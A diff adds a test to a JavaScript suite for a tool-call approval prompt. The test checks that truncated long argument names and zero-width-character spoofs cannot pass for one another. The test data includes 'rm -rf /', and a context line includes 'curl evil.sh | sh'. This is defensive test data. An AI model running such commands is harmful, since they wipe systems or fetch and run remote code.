@@ -285,6 +285,19 @@ describe("trust: the approval question", () => {
     assert.match(after.message, /"target"\."cmd": "curl evil\.sh \| sh"$/m);
   });
 
+  it("names cut to the same start, or a literal <U+…>, cannot pass for one another", () => {
+    const long = "k".repeat(120);
+    const q = ask({ server: "s", tool: "t", args: { [long + "a"]: "ok", [long + "b"]: "rm -rf /" } });
+    const names = [...q.message.matchAll(/^ {2}("k+…"\[\d+ more characters, #[0-9a-f]{8}\]):/gm)].map((m) =>
+      m[1]
+    );
+    assert.equal(names.length, 2);
+    assert.notEqual(names[0], names[1]);
+    const spoof = ask({ server: "s", tool: "t", args: { "a<U+200B>b": "x", "a\u200Bb": "y" } });
+    assert.match(spoof.message, /"a<U\+003C>U\+200B>b": "x"/);
+    assert.match(spoof.message, /"a<U\+200B>b": "y"/);
+  });
+
   it("arguments too many or too deep to show whole are not asked about: refused", () => {
     const many = Object.fromEntries(Array.from({ length: MAX_LINES + 1 }, (_, i) => [`k${i}`, i]));
     assert.equal(approvalRequest({ server: "s", tool: "t", args: many }), undefined);
